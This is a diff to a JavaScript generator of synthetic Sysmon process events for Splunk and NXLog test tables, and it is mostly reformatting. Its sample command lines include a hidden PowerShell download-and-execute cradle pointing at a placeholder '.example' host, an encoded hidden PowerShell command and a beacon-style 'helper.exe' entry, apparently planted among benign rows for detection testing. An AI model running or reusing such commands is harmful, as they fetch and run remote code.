@@ -22,20 +22,60 @@ const programs = [
   [18, SYSTEM, 'conhost.exe', '0xffffffff -ForceV1 -handle #-#'],
   [16, SYSTEM, 'backgroundTaskHost.exe', '-ServerName:App.AppX@#.mca'],
   [14, SYSTEM, 'cmd.exe', '/c "C:\\ProgramData\\Inventory\\@\\collect-#.cmd" --site @ --run #'],
-  [12, 'C:\\Program Files\\Google\\Chrome\\Application\\', 'chrome.exe', '--type=renderer --lang=en-US --field-trial-handle=# --renderer-client-id=#'],
+  [
+    12,
+    'C:\\Program Files\\Google\\Chrome\\Application\\',
+    'chrome.exe',
+    '--type=renderer --lang=en-US --field-trial-handle=# --renderer-client-id=#',
+  ],
   [10, SYSTEM, 'taskhostw.exe', 'Install $(Arg0) -session # -context @#'],
   [9, SYSTEM, 'RuntimeBroker.exe', '-Embedding -activation @# -token #'],
-  [8, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\', 'OUTLOOK.EXE', '/select "outlook:Inbox\\@-#.msg" /session #'],
-  [6, `${SYSTEM}WindowsPowerShell\\v1.0\\`, 'powershell.exe', '-NoProfile -ExecutionPolicy RemoteSigned -File D:\\Scripts\\@\\report-#.ps1 -Id #'],
-  [2, `${SYSTEM}WindowsPowerShell\\v1.0\\`, 'powershell.exe', "-NoP -W hidden -c IEX(New-Object Net.WebClient).DownloadString('http://@.example/#')"],
-  [1, `${SYSTEM}WindowsPowerShell\\v1.0\\`, 'powershell.exe', '-NonI -W Hidden -EncodedCommand SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0@#'],
+  [
+    8,
+    'C:\\Program Files\\Microsoft Office\\root\\Office16\\',
+    'OUTLOOK.EXE',
+    '/select "outlook:Inbox\\@-#.msg" /session #',
+  ],
+  [
+    6,
+    `${SYSTEM}WindowsPowerShell\\v1.0\\`,
+    'powershell.exe',
+    '-NoProfile -ExecutionPolicy RemoteSigned -File D:\\Scripts\\@\\report-#.ps1 -Id #',
+  ],
+  [
+    2,
+    `${SYSTEM}WindowsPowerShell\\v1.0\\`,
+    'powershell.exe',
+    "-NoP -W hidden -c IEX(New-Object Net.WebClient).DownloadString('http://@.example/#')",
+  ],
+  [
+    1,
+    `${SYSTEM}WindowsPowerShell\\v1.0\\`,
+    'powershell.exe',
+    '-NonI -W Hidden -EncodedCommand SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0@#',
+  ],
   [5, SYSTEM, 'rundll32.exe', 'C:\\Windows\\System32\\@.dll,Control_RunDLL -job # -part #'],
   [5, SYSTEM, 'wbem\\WmiPrvSE.exe', '-secured -Embedding -host @# -provider #'],
-  [4, SYSTEM, 'schtasks.exe', '/Create /F /SC DAILY /ST 09:00 /TN "Inventory @ #" /TR "C:\\ProgramData\\@\\agent.exe -job #"'],
+  [
+    4,
+    SYSTEM,
+    'schtasks.exe',
+    '/Create /F /SC DAILY /ST 09:00 /TN "Inventory @ #" /TR "C:\\ProgramData\\@\\agent.exe -job #"',
+  ],
   [4, SYSTEM, 'reg.exe', 'query HKLM\\SOFTWARE\\Contoso\\@\\Inventory\\# /v Version /reg:64'],
   [4, SYSTEM, 'net.exe', 'use \\\\fs-@.corp.example\\share# /persistent:no /user:CORP\\svc-@'],
-  [16, 'C:\\Program Files (x86)\\Contoso\\Updater\\', 'updater.exe', '--channel stable --component @ --request # --session {#}'],
-  [12, 'C:\\ProgramData\\Contoso\\', 'agent.exe', '-job # -policy "C:\\ProgramData\\Contoso\\policies\\@-#.json"'],
+  [
+    16,
+    'C:\\Program Files (x86)\\Contoso\\Updater\\',
+    'updater.exe',
+    '--channel stable --component @ --request # --session {#}',
+  ],
+  [
+    12,
+    'C:\\ProgramData\\Contoso\\',
+    'agent.exe',
+    '-job # -policy "C:\\ProgramData\\Contoso\\policies\\@-#.json"',
+  ],
   [1, 'C:\\Users\\Public\\', 'helper.exe', '-connect 10.20.@.corp.example:# -beacon # -sleep 60'],
 ];
 
@@ -46,13 +86,30 @@ const parents = [
   [22, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
   [16, `${SYSTEM}services.exe`, `${SYSTEM}services.exe`],
   [12, `${SYSTEM}cmd.exe`, `"${SYSTEM}cmd.exe" /c inventory.cmd`],
-  [8, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --no-startup-window'],
-  [4, `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell.exe -NoProfile -File D:\\Scripts\\nightly.ps1'],
+  [
+    8,
+    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
+    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --no-startup-window',
+  ],
+  [
+    4,
+    `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`,
+    'powershell.exe -NoProfile -File D:\\Scripts\\nightly.ps1',
+  ],
 ];
 
-const words = 'alder birch cedar dogwood elm fir ginkgo hazel ivy juniper larch maple oak pine rowan spruce'.split(' ');
-const modules = 'ntdll.dll kernel32.dll user32.dll ws2_32.dll crypt32.dll amsi.dll taskschd.dll wininet.dll'.split(' ');
-const names = 'anna bruno carla david elena felix greta hans irene jonas karin lukas marta nils olga pavel'.split(' ');
+const words =
+  'alder birch cedar dogwood elm fir ginkgo hazel ivy juniper larch maple oak pine rowan spruce'.split(
+    ' ',
+  );
+const modules =
+  'ntdll.dll kernel32.dll user32.dll ws2_32.dll crypt32.dll amsi.dll taskschd.dll wininet.dll'.split(
+    ' ',
+  );
+const names =
+  'anna bruno carla david elena felix greta hans irene jonas karin lukas marta nils olga pavel'.split(
+    ' ',
+  );
 
 /** JSON arrays of one to four loaded modules. */
 const moduleLists = modules.flatMap((_, at) =>
@@ -69,13 +126,19 @@ const moduleLists = modules.flatMap((_, at) =>
 const text = (value) => `'${value.replaceAll("'", "''")}'`;
 /** A numbered table in which each row stands as often as its weight says, so that a random slot is a weighted choice. */
 const slotted = (table, columns) => {
-  const rows = table.flatMap(([weight, ...cells]) => Array(weight).fill(cells.map(text).join(', ')));
+  const rows = table.flatMap(([weight, ...cells]) =>
+    Array(weight).fill(cells.map(text).join(', ')),
+  );
   const numbered = rows.map((cells, slot) => `(${slot}, ${cells})`);
   return `(VALUES ${numbered.join(', ')}) AS ${columns}`;
 };
 const slots = (table) => table.reduce((sum, [weight]) => sum + weight, 0);
 /** The same for plain values. */
-const numbered = (values, columns) => slotted(values.map((value) => [1, value]), columns);
+const numbered = (values, columns) =>
+  slotted(
+    values.map((value) => [1, value]),
+    columns,
+  );
 
 const streamStart = (seed, stream) =>
   BigInt(`0x${createHash('sha256').update(`${seed} ${stream}`).digest('hex').slice(0, 15)}`);
@@ -164,7 +227,11 @@ const iso = `strftime(make_timestamp((ticks - ${UNIX_EPOCH}) // 10), '%Y-%m-%d %
 /** Sysmon's event 1 as a Splunk search head sees it. */
 export const splunkColumns = [
   column('_time', 'real', seconds),
-  column('_raw', 'string', `${iso} || ' EventCode=1 Computer=' || host || ' User=' || domain || '\\' || account || ' Image=' || image || ' CommandLine=' || command || ' ParentImage=' || parent_image`),
+  column(
+    '_raw',
+    'string',
+    `${iso} || ' EventCode=1 Computer=' || host || ' User=' || domain || '\\' || account || ' Image=' || image || ' CommandLine=' || command || ' ParentImage=' || parent_image`,
+  ),
   column('_indextime', 'real', `${seconds} + 60`),
   column('index', 'string', "'win'"),
   column('source', 'string', "'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational'"),
@@ -189,7 +256,11 @@ export const splunkColumns = [
 
 /** The same event as NXLog forwards it, one JSON object a line. */
 export const nxlogColumns = [
-  column('EventTime', 'string', `strftime(make_timestamp((ticks - ${UNIX_EPOCH}) // 10), '%Y-%m-%d %H:%M:%S')`),
+  column(
+    'EventTime',
+    'string',
+    `strftime(make_timestamp((ticks - ${UNIX_EPOCH}) // 10), '%Y-%m-%d %H:%M:%S')`,
+  ),
   column('Hostname', 'string', 'host'),
   column('Keywords', 'long', '-9223372036854775808'),
   column('EventType', 'string', "'INFO'"),
@@ -235,7 +306,9 @@ export function eventsAs(columns, options) {
 
 /** Hashes with an owner, for lookups: the hashes of programs that run, among `rows` that never do. */
 export function ownersOf(rows) {
-  const known = programs.flatMap(([, , file]) => [0, 1, 2, 3].map((version) => `(${text(file)}, ${version})`));
+  const known = programs.flatMap(([, , file]) =>
+    [0, 1, 2, 3].map((version) => `(${text(file)}, ${version})`),
+  );
   return `
 SELECT upper(sha1(file || CAST(version AS VARCHAR))) AS sha1, 'vendor ' || file AS owner, CAST(version AS VARCHAR) AS release
 FROM (SELECT DISTINCT * FROM (VALUES ${known.join(', ')}) AS known(file, version))
